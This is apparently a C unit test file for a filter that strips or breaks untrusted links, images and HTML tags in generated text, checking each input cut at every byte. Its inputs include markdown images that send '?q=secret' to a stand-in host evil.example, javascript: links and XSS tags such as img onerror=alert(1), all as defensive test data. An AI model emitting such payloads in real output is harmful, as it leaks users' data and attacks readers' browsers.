/* links: src/cite.c src/citecode.c src/linkguard.c src/denial.c src/marker.c src/support.c src/words.c src/sentence.c src/markdown.c src/mdline.c src/mdinline.c src/span.c src/utf8.c src/buffer.c -lsodium -lutf8proc */
/*
 * Links in generated text: through the filter, in pieces of every size, so
 * that each is also cut at every byte.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "cite.h"

#define KNOWN	"https://docs.example.org/guide?a=1"

static const struct cite_passage passages[] = {
	{ "See " KNOWN ", or [home](http://example.org/).",
	  sizeof("See " KNOWN ", or [home](http://example.org/).") - 1 },
};

static void
expect(const char *in, const char *out)
{
	struct cite	c;
	size_t		len = strlen(in), piece, at, n;

	for (piece = 1; piece <= len; piece++) {
		cite_init(&c, passages, 1);
		for (at = 0; at < len; at += n) {
			n = len - at < piece ? len - at : piece;
			assert_int_equal(cite_feed(&c, in + at, n), 0);
		}
		assert_int_equal(cite_finish(&c), 0);
		assert_string_equal(buffer_text(&c.text), out);
		cite_free(&c);
	}
}

static void
test_images_become_text(void **state)
{
	(void)state;
	expect("A ![x](http://evil.example/a.png?q=secret) b.", "A [x] b.");
	expect("A ![](//evil.example/a.png) b.", "A [] b.");
	expect("A ![x](<http://evil.example/a b> \"t\") b.", "A [x] b.");
	expect("A ![x](\nhttp://evil.example/a\n'title') b.", "A [x] b.");
	expect("A ![x](data:image/png;base64,AAAA) b.", "A [x] b.");
	expect("A ![x](" KNOWN ") b.", "A [x](" KNOWN ") b.");
	expect("A !![x](" KNOWN ") b.", "A !! [x](" KNOWN ") b.");
	expect("A \\![x](http://evil.example/) b.", "A \\! [x] b.");
	expect("A ![1](http://evil.example/) b.", "A ![1] b.");
	expect("A ![1](http://evil.example/ \"t\") b.", "A ![1] b.");
	expect("A ![9](http://evil.example/) b.", "A ! b.");
	expect("A ![a [1]](http://evil.example/) b.", "A [a [1]] b.");
	expect("![r][1]\n\n[1]: http://evil.example/x",
	    "[r][1]\n\n[1] : http:// evil.example/x");
	expect("![r]\n\n[r]: //evil.example/x", "[r]\n\n[r] : // evil.example/x");
	expect("Wow! Yes [1]!", "Wow! Yes [1]!");
}

static void
test_links_that_no_passage_holds_lose_their_target(void **state)
{
	(void)state;
	expect("A [x](http://evil.example/?q=secret) b.", "A [x] b.");
	expect("A [x](javascript:alert(1)) b.", "A [x] b.");
	expect("A [x](/api/auth/sign-out) b.", "A [x] b.");
	expect("A [x](http://a.b)(http://c.d) b.", "A [x] b.");
	expect("A [x](&#104;ttp://evil.example) b.", "A [x] b.");
	expect("A [x](http://evil.example", "A [x] (http:// evil.example");
	expect("A [x](http://evil.example b) c",
	    "A [x] (http:// evil.example b) c");
	expect("A f[x](t) b.", "A f[x] (t) b.");
	expect("A [![i](http://a.b/i)](http://a.b/) b.", "A [[i]] b.");
}

static void
test_links_that_a_passage_holds_stay(void **state)
{
	(void)state;
	expect("A [x](" KNOWN ") b [1].", "A [x](" KNOWN ") b [1].");
	expect("A [x](http://example.org/ 'home') b.",
	    "A [x](http://example.org/) b.");
	expect("A " KNOWN ", b [1].", "A " KNOWN ", b [1].");
	expect("A <" KNOWN ">.", "A <" KNOWN ">.");
	expect("A " KNOWN "[1]", "A " KNOWN " [1]");
}

static void
test_a_known_address_with_something_added_is_not_known(void **state)
{
	(void)state;
	expect("A [x](" KNOWN "&secret) b.", "A [x] b.");
	expect("A " KNOWN "&secret b.", "A https:// docs.example.org/guide?a=1&secret b.");
	expect("A [x](https://docs.example.org/gui) b.", "A [x] b.");
	expect("A " KNOWN "{secret} b.", "A " KNOWN " {secret} b.");
}

static void
test_addresses_in_running_text_are_broken(void **state)
{
	(void)state;
	expect("At http://evil.example/?q=s.", "At http:// evil.example/?q=s.");
	expect("At HTTPS://EVIL.example.", "At HTTPS:// EVIL.example.");
	expect("At www.evil.example/x, b", "At www. evil.example/x, b");
	expect("At xhttp://evil.example b", "At xhttp:// evil.example b");
	expect("At <http://evil.example/x> b", "At &lt;http:// evil.example/x> b");
	expect("At <javascript:alert(1)> b", "At &lt;javascript:alert(1)> b");
	expect("Ohh www how what www. b", "Ohh www how what www. b");
}

static void
test_tags_are_text(void **state)
{
	(void)state;
	expect("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>");
	expect("a <img src=\"http://evil.example/x\"> b",
	    "a &lt;img src=\"http:// evil.example/x\"> b");
	expect("a <script>x</script> b", "a &lt;script>x&lt;/script> b");
	expect("a <!-- c --> b", "a &lt;!-- c --> b");
	expect("| a<br>b | H<sub>2</sub>O |", "| a<br>b | H<sub>2</sub>O |");
	expect("<br>\n<img src=x>", "&lt;br>\n&lt;img src=x>");
	expect("1 < 2 <= 3 <", "1 < 2 <= 3 <");
	expect("a <b", "a &lt;b");
}

static void
test_code_keeps_its_links_only_where_it_is_surely_code(void **state)
{
	(void)state;
	expect("Use `![x](http://a.b)` b.", "Use `![x](http://a.b)` b.");
	expect("```\ncurl http://a.b <x>\n```\nc http://a.b d",
	    "```\ncurl http://a.b <x>\n```\nc http:// a.b d");
	expect("~~~\ncurl http://a.b\n~~~\nhttp://a.b d",
	    "~~~\ncurl http://a.b\n~~~\nhttp:// a.b d");
	/* Not indented code, but a paragraph that goes on. */
	expect("a\n      ```\n![x](http://evil.example) b",
	    "a\n      ```\n[x] b");
	/* Its second backtick closes what the line before opened. */
	expect("` a\nb ` ![x](http://evil.example) ` c",
	    "` a\nb ` [x] ` c");
	/* A table's bars end spans. */
	expect("| ` | ![x](http://evil.example) | ` |",
	    "| ` | [x] | ` |");
	/* A list item that ends takes its fence with it. */
	expect("1. a\n   ```\n   b\nc ![x](http://evil.example)",
	    "1. a\n   ```\n   b\nc [x]");
	expect("- ```\n  a\n  ```\n  ![x](http://evil.example) b",
	    "- ```\n  a\n  ```\n  [x] b");
	expect("> ```\n![x](http://evil.example) b", "> ```\n[x] b");
	expect("``` a`b\n![x](http://evil.example) c", "``` a`b\n[x] c");
	/* What closes no fence. */
	expect("```\n    ```\na\n``` b\n```\n![x](http://evil.example) c",
	    "```\n    ```\na\n``` b\n```\n[x] c");
	/* A span over two lines takes the opening run of another one along. */
	expect("`a\nb ```> c \\`<http://evil.example> ```",
	    "`a\nb ```> c \\`&lt;http:// evil.example> ```");
	expect("\\【9】`[x](http://evil.example)\\` b", 
	    "\\ `[x](http://evil.example)\\` b");
	expect("\\\\`![x](http://a.b)` c", "\\\\`![x](http://a.b)` c");
	expect("\\`![x](http://a.b)` c", "\\`[x]` c");
}

int
main(void)
{
	const struct CMUnitTest	tests[] = {
		cmocka_unit_test(test_images_become_text),
		cmocka_unit_test(
		    test_links_that_no_passage_holds_lose_their_target),
		cmocka_unit_test(test_links_that_a_passage_holds_stay),
		cmocka_unit_test(
		    test_a_known_address_with_something_added_is_not_known),
		cmocka_unit_test(test_addresses_in_running_text_are_broken),
		cmocka_unit_test(test_tags_are_text),
		cmocka_unit_test(
		    test_code_keeps_its_links_only_where_it_is_surely_code),
	};

	return (cmocka_run_group_tests(tests, NULL, NULL));
}
